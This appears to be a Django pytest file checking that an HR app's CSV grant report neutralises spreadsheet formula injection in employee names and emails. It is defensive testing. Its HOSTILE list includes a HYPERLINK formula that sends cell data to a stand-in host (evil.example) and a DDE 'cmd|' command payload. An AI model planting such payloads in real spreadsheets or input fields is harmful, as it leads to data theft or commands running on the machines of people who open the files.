"""Spreadsheet formula injection: a downloaded CSV cell never starts a formula."""

import csv
import io

import pytest
from django.urls import reverse

from invitations.collective import grant_batch_run
from invitations.services import grant_batch_start
from tests.factories import EmployeeFactory

# What an attacker can put in a name or an address (the HR form allows a leading + or -; an
# import or an older record may hold anything; "=1+2@x.nl" is a valid email address).
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
]


def report_cells(manager_client, employer) -> list[list[str]]:
    batch = grant_batch_run(batch_id=grant_batch_start(employer=employer).pk)
    response = manager_client.get(reverse("hr:collective_batch_csv", args=[employer.pk, batch.pk]))
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_name_that_starts_a_formula_is_plain_text_in_the_collective_grant_report(
    manager_client, employer, value
):
    EmployeeFactory(employer=employer, first_name=value, infix="", last_name="Bakker")
    EmployeeFactory(employer=employer, last_name=value, email="=1+2@example.nl")
    rows = report_cells(manager_client, employer)
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the report has rows"
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    names = {row[1] for row in rows[1:]}
    assert f"'{value} Bakker" in names
    assert "'=1+2@example.nl" in {row[2] for row in rows[1:]}
